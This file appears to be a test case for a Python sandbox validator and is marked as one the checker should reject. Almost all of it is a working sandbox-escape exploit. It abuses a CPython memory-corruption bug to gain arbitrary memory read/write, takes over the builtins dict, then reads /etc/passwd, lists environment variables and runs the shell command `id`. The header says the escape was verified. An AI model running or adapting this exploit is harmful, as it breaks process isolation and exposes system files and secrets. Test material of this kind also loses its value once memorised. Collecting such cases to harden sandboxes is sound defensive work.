# expect: reject memory
# line: 44
# verified: reaches its goal under plain python3 3.11.7 in a temp dir (read /etc/passwd, printed the environment, ran `id`; gh-120384, the image has 3.11.2)
# why: round 15 no longer takes a subclass of unittest.TestCase (and the other
#   bases key_inert_base lists) for code a subscript's key is handed to.
#   Here the TestCase subclass also derives from collections.UserDict, whose
#   __getitem__ raises KeyError(key) when the key is not in data (a list: the slice
#   is compared, never hashed): the exception hands the slice back. A base that is
#   not listed keeps the program a key receiver.
import collections
import unittest
class K(unittest.TestCase, collections.UserDict):
    pass

def make_rw():
    R = bytearray(64)
    payload = (0).to_bytes(8, "little") + id(R).to_bytes(8, "little") + bytes(40)
    for attempt in range(50):
        objs = [payload[:-1] + bytes([i % 251]) for i in range(400)]
        ks = [k for k in range(200, 398) if id(objs[k]) + 96 == id(objs[k + 1])]
        if not ks:
            continue
        k = ks[0]
        victim = objs[k + 1]
        lst = [None] * 16
        six = [None] * 12

        def mutate():
            del objs[k]          # a hole just before victim
            lst.clear()          # the old item array is freed
            lst.extend(six)      # the new one (96 bytes) takes the hole

        def gen():
            yield bytearray
            mutate()

        try:
            u = K()
            u.data = []
            try:
                u[13:14:2]
            except KeyError as e:
                s = e.args[0]
            lst[s] = gen()
        except Exception as e:
            print("exc", e)
        if type(victim) is bytearray:   # the one-slot write landed on its ob_type
            victim[16:24] = (1 << 62).to_bytes(8, "little")   # R.ob_size
            victim[40:48] = (0).to_bytes(8, "little")         # R.ob_start
            return R, (objs, victim)
    return None, None


R, keep = make_rw()
print("arbitrary read/write:", R is not None)


def rd(a):
    return int.from_bytes(R[a:a + 8], "little")


def wr(a, v):
    R[a:a + 8] = v.to_bytes(8, "little")


def f():
    pass


builtins_addr = rd(id(f) + 24)              # PyFunctionObject.func_builtins
box = [None]
wr(builtins_addr, rd(builtins_addr) + 1)    # a reference for the slot
wr(rd(id(box) + 24), builtins_addr)         # box's item 0 is now the builtins dict
B = box[0]
print(B["open"]("/etc/passwd").readline().strip())
os = B["__import__"]("os")
print("environment:", sorted(os.environ)[:3], flush=True)
os.system("id")
os.kill(os.getpid(), 9)   # no teardown of the forged objects
